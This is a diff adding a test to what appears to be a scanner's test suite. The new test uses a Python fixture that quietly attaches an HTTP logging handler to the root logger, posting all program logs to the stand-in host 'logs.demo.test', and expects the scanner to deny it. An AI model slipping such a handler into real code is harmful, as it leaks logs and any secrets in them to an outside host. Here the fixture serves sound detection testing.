@@ -66,6 +66,14 @@ describe('what a function in the place of another passes on', () => {
         assert.equal(tierOf(findings), 'deny', describeFindings(findings));
       });
 
+  it('the log of the whole program, by a handler that a function puts there', () => {
+    const findings = scanFiles({
+      'demo/__init__.py':
+        "import logging\nfrom logging.handlers import HTTPHandler\ndef attach(root):\n    root.addHandler(HTTPHandler('logs.demo.test', '/in', 'POST', secure=True))\nattach(logging.getLogger())\n",
+    });
+    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
+  });
+
   it('is nothing where it says only that it was called', () => {
     for (const [way, source] of ways) {
       const findings = judged(`import pandas\n${source('pandas', 'read_csv', "'called'")}`);
